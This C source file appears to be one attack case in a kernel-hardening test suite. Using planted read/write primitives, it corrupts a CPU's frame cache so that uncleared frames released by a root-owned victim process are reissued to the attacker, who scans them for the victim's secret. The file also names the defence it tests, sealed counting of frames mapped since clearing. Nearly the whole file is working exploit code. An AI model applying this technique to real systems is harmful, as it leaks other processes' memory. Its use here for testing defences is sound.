// SPDX-License-Identifier: GPL-2.0-only
#include "planted_frame.h"

ATTACK("exclusive_frames", "uncleared_frame", "exclusive_frames: corrupted cache of frames",
       "The program moves frames that root's program has given back from those that wait to be "
       "cleared to those that are, and takes new pages.",
       "That a frame has been mapped since it was cleared is counted in sealed memory, and such a "
       "frame is not handed out.",
       "The secret of root's program stands in a page of the attacker's.");

#define ROUNDS 40
#define SECRET_PAGES 8

/* What waits to be cleared on CPU is free as it is. */
static void move_dirty(uint64_t cpu)
{
	const uint64_t cache = peek(cpu + member("cpu.frame_cache")),
		       dirty = cache + member("frame_cache.dirty"),
		       clean = cache + member("frame_cache.clean") +
			       KIND_PROGRAM * member("frame_stack.SIZE"),
		       count = member("frame_stack.count"), slots = member("frame_stack.slots");
	const uint32_t waiting = peek32(dirty + count);

	for (uint32_t i = 0; i < waiting; i++)
		poke(clean + slots + 8 * i, peek(dirty + slots + 8 * i));
	poke32(dirty + count, 0);
	if (waiting != 0)
		poke32(clean + count, waiting);
}

static bool fire(void)
{
	const uint64_t cpu = own_cpu(0);

	meet_victim();
	for (unsigned int round = 0; round < ROUNDS; round++) {
		await(progress[VICTIM_ROUNDS] > round);
		if (progress[VICTIM_ROUNDS] == VICTIM_ENDED)
			return false;
		move_dirty(cpu);
		for (unsigned int i = 0; i < SECRET_PAGES; i++) {
			char *page = fresh[(round * SECRET_PAGES + i) % PAGES];

			call3(__NR_madvise, (long)page, PAGE, MADV_DONTNEED);
			page[PAGE - 1] = 1;
			if (bytes_equal(page, SECRET, sizeof(SECRET) - 1))
				return true;
		}
		victim_go();
	}
	return false;
}

/* It does nothing while the attacker moves frames: both are on one CPU. */
static void victim(void)
{
	unsigned long first = 1;

	(void)call3(__NR_sched_setaffinity, 0, sizeof(first), (long)&first);
	for (;;) {
		char *pages =
			(char *)call6(__NR_mmap, 0, SECRET_PAGES * PAGE, PROT_READ | PROT_WRITE,
				      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		for (unsigned int i = 0; i < SECRET_PAGES; i++) {
			char *end = pages + i * PAGE;

			append_text(&end, SECRET);
		}
		call2(__NR_munmap, (long)pages, SECRET_PAGES * PAGE);
		victim_awaits_attacker();
		progress[VICTIM_MAY_GO] = 0;
	}
}
